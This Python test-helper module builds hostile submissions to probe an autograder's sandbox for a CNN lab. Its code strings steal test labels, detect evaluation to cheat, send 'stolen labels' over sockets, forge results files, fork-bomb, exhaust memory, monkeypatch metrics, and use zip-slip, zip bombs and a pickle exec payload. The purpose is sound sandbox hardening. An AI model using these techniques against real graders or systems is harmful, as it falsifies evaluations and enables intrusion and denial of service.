"""Builders for the hostile submissions (see ``tests/test_hostile.py``).

Every submission is ``simple_cnn.py`` (the handout's SimpleCNN, really
trained weights in ``simple_cnn.pth``) plus one attack. The attack code is
plain source text: it only ever runs inside the sandbox worker, except the
label thief, which ``thief_accuracy`` runs in the test process to prove it
really wins when labels are readable.
"""

from __future__ import annotations

import inspect
import io
import json
import zipfile
from pathlib import Path

import nbformat
import torch
from nbformat import v4

from reference.lab2 import simple_cnn as ref_simple

MEAN, STD = ref_simple.NORMALIZE["mean"], ref_simple.NORMALIZE["std"]
FAKE_RESULTS = '{"score": 1000, "tests": [], "output": "HACKED by the submission"}'
TAG = "HOSTILE"

HEADER = """\
import json, os, sys
import torch
from torch import nn

REPORT = {}


def report(**found):
    REPORT.update(found)
    print("__TAG__ " + json.dumps(REPORT, sort_keys=True), flush=True)


def errname(exc):
    return type(exc).__name__
"""


def write_each(places: str, name: str, mode: str, data: str, record: str, indent: str = "") -> str:
    """Student code that writes ``data`` to each of ``places`` (Python expressions; ``name`` the
    loop's variable, ``mode`` the file's) and runs ``record`` after each write, passing over
    the places the OS refuses: the sink's leftovers, the notebook's stashes and fake results."""
    lines = [
        f"for {name} in {places}:",
        "    try:",
        f'        with open({name}, "{mode}") as handle:',
        f"            handle.write({data})",
        f"        {record}",
        "    except OSError:",
        "        pass",
    ]
    return "".join(f"{indent}{line}\n" for line in lines)


# Reads the test labels wherever the grader keeps them and, if that works,
# answers every test image by a lookup on its pixels: 100% accuracy.
THIEF = """\
LOOKUP = {}


def _remember(images, labels):
    import numpy as np

    images = np.asarray(images, dtype=np.uint8).reshape(len(labels), -1)
    for row, label in zip(images, labels):
        LOOKUP[row.tobytes()] = int(label)


def steal(paths):
    import glob
    import pickle

    import numpy as np

    found = {}
    try:
        with open(paths["test_batch"], "rb") as handle:
            batch = pickle.load(handle, encoding="latin1")
        _remember(batch["data"], batch["labels"])
        found["labels_data_root"] = "READ %d" % len(batch["labels"])
    except Exception as exc:
        found["labels_data_root"] = errname(exc)
    try:
        names = sorted(glob.glob(os.path.join(paths["cache"], "*.npz")))
        if not names:
            os.listdir(paths["cache"])  # tell "empty" from "not allowed to look"
            raise FileNotFoundError("no cached split")
        for name in names:
            with np.load(name) as z:
                _remember(z["images"], z["labels"])
        found["labels_cache"] = "READ %d files" % len(names)
    except Exception as exc:
        found["labels_cache"] = errname(exc)
    return found


def cheat(x):
    \"\"\"Logits that name the stolen label of every image we recognise.\"\"\"
    mean = torch.tensor(__MEAN__).view(1, -1, 1, 1)
    std = torch.tensor(__STD__).view(1, -1, 1, 1)
    pixels = ((x.detach().cpu().float() * std + mean) * 255).round().clamp(0, 255).to(torch.uint8)
    logits = torch.zeros(x.shape[0], 10)
    hits = 0
    for i, image in enumerate(pixels):
        label = LOOKUP.get(image.numpy().tobytes())
        if label is not None:
            logits[i, label] = 10.0
            hits += 1
    return logits, hits
"""

MODEL = inspect.getsource(ref_simple.SimpleCNN)

# The model's forward notices evaluation (inference mode, a big batch) and then
# snoops for labels next to the test images and uses stolen ones if it has any.
EVAL_AWARE_FORWARD = """
    def forward(self, x):
        honest = self.fc(self.dropout(torch.flatten(self.features(x), 1)))
        evaluating = torch.is_inference_mode_enabled() or x.shape[0] > 64
        if evaluating and "eval_detected" not in REPORT:
            maps = open("/proc/self/maps").read().split()
            images = next((p for p in maps if p.endswith("test_images.npy")), None)
            beside = sorted(os.listdir(os.path.dirname(images))) if images else None
            report(eval_detected=True, inputs_folder=beside)
        if evaluating and LOOKUP:
            logits, hits = cheat(x)
            REPORT["cheated_images"] = REPORT.get("cheated_images", 0) + hits
            return logits
        return honest
"""

NETWORK = """\
def network(paths):
    import socket

    found = {}
    for name, family, address in (
        ("net_loopback", socket.AF_INET, ("127.0.0.1", paths["port"])),
        ("net_public", socket.AF_INET, ("1.1.1.1", 443)),
        ("net_ipv6", socket.AF_INET6, ("::1", paths["port"])),
        ("net_abstract_unix", socket.AF_UNIX, "\\0" + paths["abstract"]),
    ):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(3)
                s.connect(address)
                s.sendall(b"stolen labels go here")
            found[name] = "CONNECTED"
        except Exception as exc:
            found[name] = errname(exc)
    try:
        socket.getaddrinfo("pypi.org", 443)
        found["net_dns"] = "RESOLVED"
    except Exception as exc:
        found["net_dns"] = errname(exc)
    return found
"""

# Forks until the kernel says no (a fresh small interpreter, so it is cheap),
# reports how far it got, then cleans up after itself.
FORKER = """\
import os, signal, time
kids, error = [], "none"
for _ in range(3000):
    try:
        pid = os.fork()
    except OSError as exc:
        error = "%s errno %d" % (type(exc).__name__, exc.errno)
        break
    if pid == 0:
        time.sleep(120)
        os._exit(0)
    kids.append(pid)
print(len(kids), error)
for pid in kids:
    os.kill(pid, signal.SIGKILL)
for pid in kids:
    os.waitpid(pid, 0)
"""

# Outlives the worker and keeps overwriting results.json, racing the grader.
DAEMON = """\
import os, sys, time
end = time.time() + 120
while time.time() < end:
    for target in sys.argv[1:]:
        try:
            with open(target, "w") as handle:
                handle.write(__FAKE__)
        except OSError:
            pass
    time.sleep(0.1)
"""

SINK_ATTACKS = """\
import time

STARTED = time.monotonic()
PATHS = json.loads(__PATHS__)
FAKE = __FAKE__
TARGETS = ["/autograder/results/results.json", "results/results.json", PATHS["results"]]


def write_results():
    found = {}
    for key, target in zip(("results_gradescope", "results_relative", "results_real"), TARGETS):
        try:
            os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
            with open(target, "w") as handle:
                handle.write(FAKE)
            found[key] = "WRITTEN"
        except Exception as exc:
            found[key] = errname(exc)
    return found


def resources():
    import mmap
    import signal
    import subprocess
    import tempfile

    found = {}
    try:
        hoard = bytearray(64 << 30)
        found["memory_64g"] = "ALLOCATED %d" % len(hoard)
    except MemoryError as exc:
        found["memory_64g"] = errname(exc)
    try:
        mmap.mmap(-1, 32 << 30, flags=mmap.MAP_SHARED)
        found["memory_shared_32g"] = "MAPPED"
    except Exception as exc:
        found["memory_shared_32g"] = errname(exc)
    try:
        with open(os.path.join(tempfile.gettempdir(), "huge"), "wb") as handle:
            handle.truncate(4 << 30)
        found["file_4g"] = "CREATED"
    except OSError as exc:
        found["file_4g"] = "%s errno %d" % (errname(exc), exc.errno)
    try:
        done = subprocess.run([sys.executable, "-I", "-S", "-c", __FORKER__], capture_output=True, text=True)
        forks, _, error = done.stdout.strip().partition(" ")
        found["forks"], found["fork_error"] = int(forks or -1), error
    except OSError as exc:  # a worker without a cgroup may start no process
        found["forks"], found["fork_error"] = 0, "%s errno %d" % (errname(exc), exc.errno)
    try:
        daemon = subprocess.Popen(
            [sys.executable, "-I", "-S", "-c", __DAEMON__, *TARGETS], start_new_session=True
        )
        found["daemon_started"] = daemon.pid > 0
    except OSError as exc:
        found["daemon_started"] = errname(exc)
""" + write_each(
    'PATHS["leftovers"]', "leftover", "w", '"left behind"',
    record='found.setdefault("leftovers_written", []).append(leftover)', indent="    ",
) + """\
    try:
        os.kill(os.getppid(), signal.SIGKILL) if os.getppid() != 1 else None
        found["kill_parent"] = "NOT ATTEMPTED (pid namespace)" if os.getppid() == 1 else "SENT"
    except OSError as exc:
        found["kill_parent"] = errname(exc)
    return found


def monkeypatch():
    import builtins

    import numpy

    torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
    torch.eq = torch.Tensor.eq = lambda *a, **k: torch.tensor(True)
    numpy.mean = lambda *a, **k: 1.0
    builtins.accuracy = 1.0
    try:
        import sklearn.metrics

        sklearn.metrics.accuracy_score = lambda *a, **k: 1.0
    except ImportError:
        pass
    print("Test Accuracy: 100.00%")
    print('{"id": 3, "ok": true, "result": {"accuracy": 1.0, "score": 1000}}', flush=True)
    return {"monkeypatched": True}


def confinement():
    import resource
    import socket

    status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
    names = ("NPROC", "FSIZE", "NOFILE", "CORE", "AS")
    return {
        "uid": os.getuid(),
        "cap_eff": status["CapEff"].strip(),
        "no_new_privs": status["NoNewPrivs"].strip(),
        "seccomp_mode": status["Seccomp"].strip(),
        "pids_visible": sum(p.isdigit() for p in os.listdir("/proc")),
        "env": sorted(os.environ),
        "hostname": socket.gethostname(),
        "root": sorted(os.listdir("/")),
        "rlimits": {n: resource.getrlimit(getattr(resource, "RLIMIT_" + n))[0] for n in names},
        "own_cmdline_paths": [a for a in open("/proc/self/cmdline").read().split("\\0") if a.startswith("/")],
        "other_jobs": listing(PATHS["jobs_parent"]),
    }


def listing(folder):
    try:
        return sorted(os.listdir(folder))
    except OSError as exc:
        return errname(exc)


def flood():
    chunk = "A" * (1 << 20)
    for _ in range(50):
        sys.stdout.write(chunk)
    sys.stdout.flush()
    return {"flooded_mb": 50}


found = {}
ATTACKS = (confinement, write_results, lambda: steal(PATHS), lambda: network(PATHS), resources)
ATTACKS += (monkeypatch, flood)
for attack in ATTACKS:
    try:
        found.update(attack())
    except BaseException as exc:
        found.setdefault("attack_errors", []).append(errname(exc))
found["attack_seconds"] = round(time.monotonic() - STARTED, 2)
report(**found)
"""


def fill(template: str, **values: object) -> str:
    """Put ``repr(value)`` where the template says ``__KEY__`` (no % or {} clashes with the code)."""
    for key, value in values.items():
        template = template.replace(f"__{key.upper()}__", repr(value))
    return template


def _module(*parts: str, forward: str | None = None) -> str:
    model = MODEL if forward is None else MODEL.split("    def forward")[0] + forward
    header = HEADER.replace("__TAG__", TAG)
    thief = fill(THIEF, mean=tuple(MEAN), std=tuple(STD))
    return "\n\n".join([header, *(thief if p is THIEF else p for p in parts), model])


def honest_source() -> str:
    return "import torch\nfrom torch import nn\n\n\n" + MODEL


def write(folder: Path, source: str, state: dict | None, extra: dict[str, bytes] | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "simple_cnn.py").write_text(source)
    if state is not None:
        torch.save(state, folder / "simple_cnn.pth")
    for name, blob in (extra or {}).items():
        (folder / name).write_bytes(blob)
    return folder


def honest(folder: Path, state: dict) -> Path:
    return write(folder, honest_source(), state)


def thief(folder: Path, state: dict, paths: dict) -> Path:
    """Only the label theft and the evaluation-aware forward that uses it."""
    attack = f"PATHS = json.loads({json.dumps(paths)!r})\nreport(**steal(PATHS))\n"
    return write(folder, _module(THIEF, attack, forward=EVAL_AWARE_FORWARD), state)


def sink(folder: Path, state: dict, paths: dict) -> Path:
    """Every attack that leaves the model working, in one submission.

    Also: files named like modules the grader or the worker import, symlinks
    to grader files, and a zip inside the submission with ``../`` paths and a
    symlink entry (unpacked by the same code as a top-level zip)."""
    daemon = DAEMON.replace("__FAKE__", repr(FAKE_RESULTS))
    attacks = fill(SINK_ATTACKS, paths=json.dumps(paths), fake=FAKE_RESULTS, forker=FORKER, daemon=daemon)
    write(folder, _module(THIEF, NETWORK, attacks, forward=EVAL_AWARE_FORWARD), state)
    shadow = f"print('{TAG}-SHADOW', __name__, flush=True)\nraise SystemExit('shadowed')\n"
    for name in ("torch.py", "numpy.py", "json.py", "autograder.py", "conftest.py", "sitecustomize.py"):
        (folder / name).write_text(shadow)
    for name, target in paths["symlinks"].items():
        (folder / name).symlink_to(target)
    with zipfile.ZipFile(folder / "extras.zip", "w") as zf:
        for name in paths["zip_slip"]:
            zf.writestr(name, "escaped the submission folder\n")
        link = zipfile.ZipInfo("extras/labels_link")
        link.external_attr = 0o120777 << 16
        zf.writestr(link, paths["test_batch"])
    return folder


def import_exit(folder: Path, state: dict, how: str) -> Path:
    """``os._exit(0)`` or ``sys.exit(0)`` while being imported, after printing a fake score."""
    stop = {"os._exit": "os._exit(0)", "sys.exit": "sys.exit(0)"}[how]
    attack = f"print('Test Accuracy: 100.00%', flush=True)\n{stop}\n"
    return write(folder, _module(attack), state)


# Folders nested 1,500 deep wherever the worker may write (its out/ folder, its HOME and
# TMPDIR in tier B, /tmp), made one level at a time so no path nears PATH_MAX: Python's
# rmtree recurses once per level and raised RecursionError in the grader's clean-up.
DEEP_FOLDERS = """\
def nest(base, depth=1500):
    fd = os.open(base, os.O_RDONLY)
    made = 0
    try:
        os.mkdir("nest", dir_fd=fd)
        for made in range(1, depth + 1):
            inner = os.open("nest" if made == 1 else "a", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
            os.mkdir("a", dir_fd=fd)
    except OSError:
        pass
    finally:
        os.close(fd)
    return made


OUT = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "out")  # beside submission/
report(deep={place: nest(place) for place in dict.fromkeys([OUT, os.environ.get("HOME", "/tmp"), "/tmp"])})
"""


def deep_folders(folder: Path, state: dict) -> Path:
    return write(folder, _module(DEEP_FOLDERS), state)


# Harmless networked code at import, as students write it: a dataset download in
# try/except, a probe of a local visdom/TensorBoard server that expects "connection
# refused" offline, and (the leak) a POST of "labels" to the grader machine's listener.
ONLINE_AT_IMPORT = """\
import socket
import urllib.request

try:
    urllib.request.urlopen("https://www.cs.toronto.edu/~kriz/cifar-10-python.tar.gz", timeout=3)
except Exception:
    pass
try:
    with socket.create_connection(("localhost", 8097), timeout=3):
        VISDOM = True
except ConnectionRefusedError:
    VISDOM = False
""" + (
    LEAK_AT_IMPORT := """\
import urllib.request

try:
    urllib.request.urlopen("http://127.0.0.1:__PORT__/leak", data=b"stolen labels", timeout=3)
    LEAK = "SENT"
except Exception as exc:
    LEAK = type(getattr(exc, "reason", exc)).__name__
"""
) + """print("__TAG__-NET", VISDOM, LEAK, flush=True)
"""


def online_at_import(folder: Path, state: dict, port: int) -> Path:
    """An honest SimpleCNN whose module goes online when imported (see ONLINE_AT_IMPORT)."""
    probe = ONLINE_AT_IMPORT.replace("__PORT__", str(port)).replace("__TAG__", TAG)
    return write(folder, probe + "\n\n" + honest_source(), state)


def import_loop(folder: Path, state: dict) -> Path:
    return write(folder, _module("while True:\n    pass\n"), state)


LOOP_FORWARD = """
    def forward(self, x):
        if x.shape[0] == 8:  # the forward check's batch: hang there, answer honestly elsewhere
            while True:
                pass
        return self.fc(self.dropout(torch.flatten(self.features(x), 1)))
"""


def forward_loop(folder: Path, state: dict) -> Path:
    return write(folder, _module(forward=LOOP_FORWARD), state)


SLEEP_FORWARD = """
    def forward(self, x):
        if x.shape[0] == 8:  # the forward check's batch: say so, then sleep for good
            if MARKER:
                open(MARKER, "w").close()
            while True:
                time.sleep(3600)
        return self.fc(self.dropout(torch.flatten(self.features(x), 1)))
"""


def forward_sleep(folder: Path, state: dict, marker: str | None = None) -> Path:
    """The forward check never gets an answer (sleeping costs the machine nothing, unlike a
    busy loop); ``marker``: a file created when it starts, so a test knows that moment."""
    return write(folder, _module(f"import time\nMARKER = {marker!r}\n", forward=SLEEP_FORWARD), state)


# At import, the worker (torch loaded) forks 150 times; every child ignores SIGTERM
# and sleeps for good. Hundreds of large processes take a while to die once killed.
FORK_BOMB = """
import signal, time
kids = 0
while kids < 150:  # enough to show it; the kernel stops it at 512 (RLIMIT_NPROC) anyway
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            time.sleep(3600)
    kids += 1
report(forked=kids)
"""


def fork_bomb(folder: Path, state: dict) -> Path:
    return write(folder, _module(FORK_BOMB), state)


# Keeps a few thumbnails of the hidden test images while the accuracy item evaluates
# (in memory, and where the images file was), then raises them in the next visible
# check's message; or (``at_once``) raises them during the evaluation itself.
THUMBNAILS_FORWARD = """
    def forward(self, x):
        import numpy as np

        evaluating = torch.is_inference_mode_enabled() or x.shape[0] > 64
        if evaluating and not SEEN:
            maps = open("/proc/self/maps").read().split()
            SEEN["path"] = next((p for p in maps if p.endswith("test_images.npy")), None)
            SEEN["thumbs"] = x[:4, :, ::8, ::8].mul(100).round().tolist()
        if evaluating and AT_ONCE:  # every time: the grader retries a failed first batch once
            raise ValueError("thumbnails " + repr(SEEN["thumbs"]))
        if x.shape[0] == 8:  # the forward check, a visible item
            thumbs = SEEN.get("thumbs")
            if thumbs is None:  # a fresh process: read the file (tier A's path if none was seen)
                try:
                    path = SEEN.get("path") or "/sandbox/inputs/test_images.npy"
                    thumbs = np.load(path)[:4, :, ::8, ::8].tolist()
                except OSError as exc:
                    raise ValueError("LEAK nothing: " + errname(exc)) from None
            raise ValueError("LEAK " + repr(thumbs))
        return self.fc(self.dropout(torch.flatten(self.features(x), 1)))
"""


def thumbnails(folder: Path, state: dict, at_once: bool = False) -> Path:
    """Grade it with the accuracy item before the forward item."""
    head = f"SEEN = {{}}\nAT_ONCE = {at_once!r}\n"
    return write(folder, _module(head, forward=THUMBNAILS_FORWARD), state)


# A ResNet-18 handed in as SimpleCNN, with its weights; at import it makes the
# worker's introspection measure a decoy (the handout's SimpleCNN) instead.
FORGED_STRUCTURE = """
import torchvision
from torchvision.models.resnet import BasicBlock

_introspect = sys.modules["agworker.introspect"]
_measure = _introspect.layers


class SimpleCNN(torchvision.models.ResNet):
    def __init__(self, num_classes=10):
        super().__init__(BasicBlock, [2, 2, 2, 2], num_classes=num_classes)


def _decoy_layers(model, input_shape, call):
    return _measure(_Decoy(), input_shape, call)


_introspect.layers = _decoy_layers
"""


def forged_structure(folder: Path) -> Path:
    import torchvision

    decoy = MODEL.replace("class SimpleCNN", "class _Decoy", 1)
    state = torchvision.models.resnet18(num_classes=10).state_dict()
    return write(folder, "\n\n".join([HEADER.replace("__TAG__", TAG), decoy, FORGED_STRUCTURE]), state)


# Attacks on the wire format: a 6 MiB answer without a newline on the reply
# descriptor during the forward check, and a FIFO where the logits should be.
PROTOCOL = """
import numpy

_save = numpy.save


def _fifo_instead(path, *args, **kwargs):
    if str(path).endswith(".npy") and "logits" in str(path):
        os.mkfifo(path)
        return None
    return _save(path, *args, **kwargs)


numpy.save = _fifo_instead
_ARGV = open("/proc/self/cmdline", "rb").read().split(b"\\0")  # the worker's own, not sys.argv
REPLY_FD = int(_ARGV[_ARGV.index(b"--reply-fd") + 1])
"""

PROTOCOL_FORWARD = """
    def forward(self, x):
        if x.shape[0] == 8:
            os.write(REPLY_FD, b"[" * (6 << 20))
        return self.fc(self.dropout(torch.flatten(self.features(x), 1)))
"""


def protocol(folder: Path, state: dict) -> Path:
    return write(folder, _module(PROTOCOL, forward=PROTOCOL_FORWARD), state)


class _Payload:
    """Unpickling this runs code: the classic ``__reduce__`` exploit."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        code = f"print('{TAG}-PAYLOAD-RAN', flush=True); open({str(self.marker)!r}, 'w').write('pwned')"
        return (exec, (code,))


def payload_checkpoint(folder: Path, marker: Path) -> Path:
    """A .pth whose unpickling would create ``marker``."""
    buffer = io.BytesIO()
    torch.save({"fc.weight": _Payload(marker)}, buffer)
    return write(folder, honest_source(), None, {"simple_cnn.pth": buffer.getvalue()})


def whole_model(folder: Path, state: dict) -> Path:
    """``torch.save(model)`` instead of ``torch.save(model.state_dict())``."""
    model = ref_simple.SimpleCNN()
    model.load_state_dict(state)
    buffer = io.BytesIO()
    torch.save(model, buffer)
    return write(folder, honest_source(), None, {"simple_cnn.pth": buffer.getvalue()})


def zipped(folder: Path, target: Path, extra_names: list[str]) -> Path:
    """``folder`` as a zip, plus entries under hostile names (``../`` paths, absolute paths)."""
    with zipfile.ZipFile(target, "w") as zf:
        for path in sorted(folder.iterdir()):
            zf.write(path, path.name)
        for name in extra_names:
            zf.writestr(name, "escaped the submission folder\n")
    return target


def zip_bomb(target: Path, state: dict, inflated: int) -> Path:
    """An honest submission plus one entry of ``inflated`` zero bytes (about 1000:1 compressed)."""
    folder = honest(target.with_suffix(""), state)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for path in sorted(folder.iterdir()):
            zf.write(path, path.name)
        with zf.open("data.bin", "w", force_zip64=True) as entry:
            block = bytes(16 << 20)
            for _ in range(inflated // len(block)):
                entry.write(block)
    return target


# A notebook run in its own sandbox sees ./data (a copy of the dataset). Its cells
# try to hand what they read to the graded worker that starts after it: files in
# every folder a sandbox uid can write, and a daemon that keeps rewriting them.
NOTEBOOK_CELLS = [
    "import json, os, pickle, socket, subprocess, sys\nPATHS = json.loads(__PATHS__)",
    """found = {}
try:
    with open(PATHS["grader_test_batch"], "rb") as handle:
        handle.read(1)
    found["grader_data_root"] = "READ"
except Exception as exc:
    found["grader_data_root"] = type(exc).__name__
try:
    with open(os.path.join("data", "cifar-10-batches-py", "test_batch"), "rb") as handle:
        batch = pickle.load(handle, encoding="latin1")
    stash = pickle.dumps((batch["data"], batch["labels"]))
except Exception as exc:
    found["data_copy"], stash = type(exc).__name__, pickle.dumps(([], []))
found["stashed"] = []
"""
    + write_each('PATHS["stashes"]', "place", "wb", "stash", record='found["stashed"].append(place)')
    + write_each(
        '("/autograder/results/results.json", PATHS["results"])', "target", "w", '"HACKED"',
        record='found.setdefault("results_written", []).append(target)',
    )
    + """\
try:
    socket.create_connection(("1.1.1.1", 443), timeout=3)
    found["network"] = "CONNECTED"
except Exception as exc:
    found["network"] = type(exc).__name__
print("__TAG__-NB " + json.dumps(found), flush=True)""",
    """keeper = "\\n".join([
    "import sys, time",
    "data = open(sys.argv[1], 'rb').read()",
    "for _ in range(1200):",
    "    for p in sys.argv[2:]:",
    "        try:",
    "            open(p, 'wb').write(data)",
    "        except OSError:",
    "            pass",
    "    time.sleep(0.1)",
])
if found["stashed"]:
    subprocess.Popen([sys.executable, "-c", keeper, found["stashed"][0], *PATHS["stashes"]],
                     start_new_session=True, stderr=subprocess.DEVNULL)
print("daemon started", flush=True)""",
    "os._exit(0)  # the kernel dies 'successfully': exit codes decide nothing",
]

# The graded worker, started after the notebook, looks for the stash everywhere.
STASH_READER = """\
PATHS = json.loads(__PATHS__)


def collect_stash():
    import pickle

    found = []
    for place in PATHS["stashes"]:
        try:
            with open(place, "rb") as handle:
                images, labels = pickle.load(handle)
            _remember(images, labels)
            found.append(place)
        except Exception:
            pass
    return {"stash_found": found}


report(**collect_stash())
"""


def notebook_smuggler(folder: Path, state: dict, paths: dict) -> Path:
    """A notebook that tries to smuggle labels to the graded worker, plus that worker's model."""
    nb = v4.new_notebook()
    for source in NOTEBOOK_CELLS:
        nb.cells.append(v4.new_code_cell(fill(source, paths=json.dumps(paths)).replace("__TAG__", TAG)))
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(folder / "StudentID_lab2.ipynb"))
    reader = fill(STASH_READER, paths=json.dumps(paths))
    return write(folder, _module(THIEF, reader, forward=EVAL_AWARE_FORWARD), state)


def thief_accuracy(paths: dict, state: dict, images, labels) -> float:
    """Run the thief's own code here, where the labels are readable: its accuracy."""
    import numpy as np

    namespace: dict = {"__name__": "thief_control"}
    exec(compile(_module(THIEF, forward=EVAL_AWARE_FORWARD), "thief", "exec"), namespace)
    assert namespace["steal"](paths)["labels_data_root"].startswith("READ")
    model = namespace["SimpleCNN"]()
    model.load_state_dict(state)
    order = np.random.default_rng(0).permutation(len(labels))
    x = torch.from_numpy(images[order]).float().div(255)
    x = (x - torch.tensor(MEAN).view(1, -1, 1, 1)) / torch.tensor(STD).view(1, -1, 1, 1)
    with torch.inference_mode():
        predicted = model.eval()(x).argmax(1).numpy()
    return float((predicted == labels[order]).mean())
